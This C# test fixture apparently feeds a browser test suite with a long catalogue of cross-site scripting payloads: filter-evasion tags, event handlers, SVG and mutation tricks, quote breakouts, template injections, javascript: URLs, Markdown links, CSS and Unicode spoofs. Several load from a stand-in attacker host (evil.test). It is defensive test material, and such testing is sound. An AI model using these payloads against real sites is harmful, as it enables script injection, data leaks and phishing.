namespace Browser.Tests.Pages;

/// <summary>
/// Texts that have run as script somewhere, or fooled a reader, by their published kinds (OWASP's "XSS Filter Evasion Cheat Sheet", the "HTML5 Security Cheatsheet", PortSwigger's
/// "Cross-site scripting cheat sheet", Unicode's "Technical Report #36"). Each that runs sets window.ran.
/// </summary>
internal static class HostileText
{
    private static readonly string[] Elements =
    [
        "<script>top.ran=1</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>top.ran=1</scr</script>ipt>",
        "<<script>top.ran=1//<</script>",
        "<script/x>top.ran=1</script\t\n>",
        "<script type=module>top.ran=1</script>",
        "<iframe src=javascript:top.ran=1></iframe>",
        "<iframe srcdoc=\"<script>top.ran=1</script>\"></iframe>",
        "<object data=javascript:top.ran=1></object>",
        "<object data=\"data:text/html,<script>top.ran=1</script>\"></object>",
        "<embed src=javascript:top.ran=1>",
        "<applet code=top.ran=1></applet>",
        "<frameset onload=top.ran=1>",
        "<base href=javascript:/a/-top.ran=1//>",
        "<meta http-equiv=refresh content=\"0;url=javascript:top.ran=1\">",
        "<link rel=stylesheet href=javascript:top.ran=1>",
        "<link rel=prefetch href=https://evil.test/seen>",
        "<isindex type=image src=1 onerror=top.ran=1>",
        "<template><img src=x onerror=top.ran=1></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=top.ran=1>\">",
        "<portal src=javascript:top.ran=1>",
        "<x-widget is=script>top.ran=1</x-widget>",
    ];

    private static readonly string[] Events =
    [
        "<img src=x onerror=top.ran=1>",
        "<img/src=\"x\"/onerror=top.ran=1>",
        "<img src=x:x onerror=\"&#116;op.ran=1\">",
        "<image src=x onerror=top.ran=1>",
        "<body onload=top.ran=1>",
        "<body onpageshow=top.ran=1>",
        "<details open ontoggle=top.ran=1>",
        "<input autofocus onfocus=top.ran=1>",
        "<select autofocus onfocus=top.ran=1>",
        "<textarea autofocus onfocus=top.ran=1>",
        "<video><source onerror=top.ran=1></video>",
        "<audio src=x onerror=top.ran=1>",
        "<marquee onstart=top.ran=1>",
        "<p style=\"animation:x 1s\" onanimationstart=top.ran=1>",
        "<p style=\"transition:color 1s\" ontransitionend=top.ran=1>",
        "<button popovertarget=x>x</button><xss id=x popover onbeforetoggle=top.ran=1>",
        "<xss contenteditable autofocus onfocus=top.ran=1 tabindex=1>",
        "<xss oncontentvisibilityautostatechange=top.ran=1 style=display:block;content-visibility:auto>",
        "<a href=x onmouseover=top.ran=1 onpointerover=top.ran=1>x</a>",
        "<form oninput=top.ran=1><input autofocus></form>",
    ];

    private static readonly string[] Drawings =
    [
        "<svg onload=top.ran=1>",
        "<svg><script>top.ran=1</script></svg>",
        "<svg><script href=data:,top.ran=1 />",
        "<svg><animate onbegin=top.ran=1 attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:top.ran=1 /><text x=20 y=20>x</text></a></svg>",
        "<svg><set attributeName=href to=javascript:top.ran=1>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>top.ran=1</script></svg>#x\"></use></svg>",
        "<svg><foreignObject><img src=x onerror=top.ran=1></foreignObject></svg>",
        "<svg><style><img/src=x onerror=top.ran=1></style></svg>",
        "<svg><title><img src=x onerror=top.ran=1></title></svg>",
        "<math href=javascript:top.ran=1>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:top.ran=1>x</maction></math>",
    ];

    /* Harmless when read once, something else when written out and read again. */
    private static readonly string[] Mutations =
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=top.ran=1&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=top.ran=1>\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=top.ran=1 src>\">",
        "<noembed><img title=\"</noembed><img src=x onerror=top.ran=1>\"></noembed>",
        "<xmp><p title=\"</xmp><img src=x onerror=top.ran=1>\">",
        "<p id=\"`onmouseover=top.ran=1//\">",
        "<listing>&lt;img src=x onerror=top.ran=1&gt;</listing>",
        "<select><template><style><a title=\"</style></template></select><img src=x onerror=top.ran=1>\">",
        "&lt;img src=x onerror=top.ran=1&gt;",
        "&amp;lt;script&amp;gt;top.ran=1&amp;lt;/script&amp;gt;",
        "&#60;script&#62;top.ran=1&#60;/script&#62;",
        "%3Cscript%3Etop.ran=1%3C/script%3E",
        "\\u003cscript\\u003etop.ran=1\\u003c/script\\u003e",
        "+ADw-script+AD4-top.ran=1+ADw-/script+AD4-",
    ];

    private static readonly string[] Breakouts =
    [
        "</template><img src=x onerror=top.ran=1>",
        "</p></li></ul></main><img src=x onerror=top.ran=1>",
        "</textarea><img src=x onerror=top.ran=1>",
        "</title><img src=x onerror=top.ran=1>",
        "</style><img src=x onerror=top.ran=1>",
        "</script><script>top.ran=1</script>",
        "</select><img src=x onerror=top.ran=1>",
        "--><img src=x onerror=top.ran=1><!--",
        "--!><img src=x onerror=top.ran=1>",
        "]]><img src=x onerror=top.ran=1>",
        "<![CDATA[<img src=x onerror=top.ran=1>]]>",
        "\"><img src=x onerror=top.ran=1>",
        "'><img src=x onerror=top.ran=1>",
        "\" onmouseover=\"top.ran=1\" autofocus onfocus=\"top.ran=1",
        "' onmouseover='top.ran=1",
        "x onmouseover=top.ran=1",
        "` onmouseover=`top.ran=1",
        "\"}</script><script>top.ran=1</script>",
        "\";top.ran=1;//",
        "'-top.ran=1-'",
        "\\\";top.ran=1//",
        "\u2028top.ran=1\u2029",
    ];

    private static readonly string[] Templates =
    [
        "<!--chk-slot-0-->",
        "chk-slot-0-",
        "chk-slot-1-\" onmouseover=top.ran=1 x=\"",
        "${top.ran=1}",
        "`+(top.ran=1)+`",
        "{{constructor.constructor('top.ran=1')()}}",
        "<%= top.ran=1 %>",
        "#{top.ran=1}",
        "[[${top.ran=1}]]",
        "{0}{1}{2}",
        "$& $1 $` $'",
        "<p ng-app ng-csp ng-click=$event.view.top.ran=1>x</p>",
        "<xss v-html=\"'<img src=x onerror=top.ran=1>'\">",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:top.ran=1",
        "JaVaScRiPt:top.ran=1",
        " javascript:top.ran=1",
        "java\nscript:top.ran=1",
        "java\tscript:top.ran=1",
        "\u0001javascript:top.ran=1",
        "javascript\0:top.ran=1",
        "javascript&colon;top.ran=1",
        "&#106;avascript:top.ran=1",
        "javascript://crm.test/%0atop.ran=1",
        "javascript:/*--></title></style></textarea></script><svg/onload='top.ran=1'>*/top.ran=1",
        "view-source:javascript:top.ran=1",
        "vbscript:top.ran=1",
        "livescript:top.ran=1",
        "data:text/html,<script>top.ran=1</script>",
        "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.ran=1'/>",
        "blob:http://crm.test/x",
        "filesystem:http://crm.test/temporary/x.html",
        "//evil.test/x",
        "\\\\evil.test\\x",
        "feed:javascript:top.ran=1",
    ];

    private static readonly string[] Links =
    [
        "[x](javascript:top.ran=1)",
        "[x](https://crm.test/\"onmouseover=\"top.ran=1)",
        "[x](https://crm.test/x \"onmouseover=top.ran=1\")",
        "[<img src=x onerror=top.ran=1>](https://crm.test/x)",
        "[x](data:text/html,<script>top.ran=1</script>)",
        "[x](<javascript:top.ran=1>)",
        "[x]: javascript:top.ran=1",
        "[x][javascript:top.ran=1]",
        "<javascript:top.ran=1>",
        "![x](https://evil.test/seen.png)",
        "![x](data:image/svg+xml,<svg/onload=top.ran=1>)",
        "![x](x\"onerror=\"top.ran=1)",
        "**<img src=x onerror=top.ran=1>**",
        "`<script>top.ran=1</script>`",
        "- <svg onload=top.ran=1>",
        "[a](https://crm.test/[b](javascript:top.ran=1))",
    ];

    private static readonly string[] Styles =
    [
        "<style>@import 'https://evil.test/seen.css';</style>",
        "<p style=\"background:url(https://evil.test/seen.png)\">x</p>",
        "<p style=\"width:expression(top.ran=1)\">x</p>",
        "<p style=-moz-binding:url(https://evil.test/x.xml#x)>x</p>",
        "}*{background:url(javascript:top.ran=1)}",
        "x;background:url(https://evil.test/seen.png)",
        "<style>body{display:none}</style>",
    ];

    /* Names the page or the language has a meaning for. */
    private static readonly string[] Names =
    [
        "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "panel", "announcement", "page", "stage-practices",
        "<form id=panel><input name=reportValidity>", "<a id=CrmChecklistsPanel><a id=CrmChecklistsPanel name=openAt>", "<img name=getElementById><img name=body>",
    ];

    private static readonly string[] Writings =
    [
        "\0<script>top.ran=1</script>",
        "\u202egnp.tpircs\u202c",
        "\u2067turned to the end",
        "\u2066\u2066\u2069\u2069\u2069",
        "\u200f\u061c\u05e9\u05dc\u05d5\u05dd 3 of 5",
        "\uff1cscript\uff1etop.ran=1\uff1c/script\uff1e",
        "\u02c2script\u02c3top.ran=1",
        "\u00adjava\u200bscript:top.ran=1",
        "\ufeff<img src=x onerror=top.ran=1>",
        "p\u0430ypal.com",
        "\u0001\u0008\u001b[31mred\u007f\u0085",
        "Z\u0351\u036b\u0343a\u0308\u0301l\u0334g\u0335o\u0336",
    ];

    public static readonly string[] All =
        [.. Elements, .. Events, .. Drawings, .. Mutations, .. Breakouts, .. Templates, .. Addresses, .. Links, .. Styles, .. Names, .. Writings];

    /// <summary>A text as the pages show it: without characters that show nothing, and without marks that turn what stands around them.</summary>
    public static string Shown(string text)
    {
        var seen = string.Concat(text.Where(letter => letter is '\t' or '\n' or '\r' || !(char.IsControl(letter) || letter is >= '\u202a' and <= '\u202e')));
        return string.Concat(seen.Where(letter => letter is < '\u2066' or > '\u2069'));
    }
}
